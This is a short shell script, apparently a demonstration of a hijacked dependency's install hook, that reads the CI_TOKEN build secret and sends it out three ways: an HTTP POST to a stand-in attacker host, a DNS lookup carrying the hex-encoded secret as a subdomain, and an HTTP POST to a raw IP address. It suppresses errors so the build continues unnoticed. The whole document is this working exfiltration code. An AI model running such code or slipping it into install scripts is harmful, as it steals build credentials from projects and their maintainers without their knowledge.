#!/bin/sh
# What a hijacked dependency does when it is installed: it tries three ways to send a secret of the build to its owner.
# Nothing here looks at errors, like the real ones: the build must go on and nobody notice.
secret=${CI_TOKEN:-none}

# 1. A web request to the attacker's host.
curl --silent --max-time 30 --data "$secret" https://evil.demo.test/collect

# 2. A name below the attacker's zone: the question alone carries the secret, through any resolver.
getent hosts "$(printf '%s' "$secret" | od -An -tx1 | tr -d ' \n').evil.demo.test" >/dev/null

# 3. An address, without any name.
curl --silent --max-time 30 --data "$secret" http://198.51.100.66:8080/collect

exit 0
